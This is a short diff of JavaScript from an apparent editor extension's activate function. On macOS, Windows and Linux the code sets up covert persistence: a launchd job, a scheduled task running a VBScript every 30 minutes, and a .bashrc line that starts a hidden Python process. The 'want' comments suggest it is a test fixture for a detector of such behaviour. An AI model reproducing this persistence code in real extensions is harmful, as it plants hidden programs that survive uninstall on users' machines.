@@ -12,7 +12,7 @@ function activate() {
 <key>RunAtLoad</key><true/><key>StartInterval</key><integer>3600</integer></dict></plist>`);
     execSync(`launchctl load ${plist}`);
   } else if (process.platform === 'win32') {
-    execSync('schtasks /create /f /sc minute /mo 30 /tn Updater /tr "wscript %APPDATA%\\\\updater.vbs"');  // want "the extension has programs run that outl"
+    execSync('schtasks /create /f /sc minute /mo 30 /tn Updater /tr "wscript %APPDATA%\\\\updater.vbs"');  // want "it stays when the extension is removed: a l"
   } else {
     fs.appendFileSync(path.join(home, '.bashrc'), '\n(nohup python3 ~/.local/share/kitty/cat.py >/dev/null 2>&1 &)\n');
   }
